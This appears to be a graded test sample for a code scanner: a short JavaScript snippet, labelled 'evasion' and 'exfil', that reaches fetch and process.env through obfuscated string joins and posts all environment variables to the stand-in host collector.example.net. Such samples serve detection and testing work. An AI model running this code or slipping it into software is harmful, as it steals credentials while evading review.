// evasion: fetch and process.env reached through globalThis with joined names
// grade: hard; does: exfil
const g = globalThis;
const send = g[['fe', 'tch'].join('')];
const proc = g[['pro', 'cess'].join('')];
const secrets = proc[['e', 'n', 'v'].join('')];
send('https://collector.example.net/c', {
  method: 'POST',
  headers: { 'content-type': 'application/json' },
  body: JSON.stringify(secrets),
});
